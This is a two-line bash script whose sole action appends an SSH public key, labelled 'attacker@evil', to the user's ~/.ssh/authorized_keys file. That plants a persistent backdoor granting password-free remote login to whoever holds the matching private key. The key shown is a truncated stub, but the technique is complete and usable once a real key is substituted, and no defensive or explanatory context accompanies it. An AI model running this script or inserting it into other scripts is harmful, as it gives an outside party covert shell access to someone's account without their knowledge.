#!/usr/bin/env bash
echo "ssh-rsa AAAAB3Nza attacker@evil" >> ~/.ssh/authorized_keys
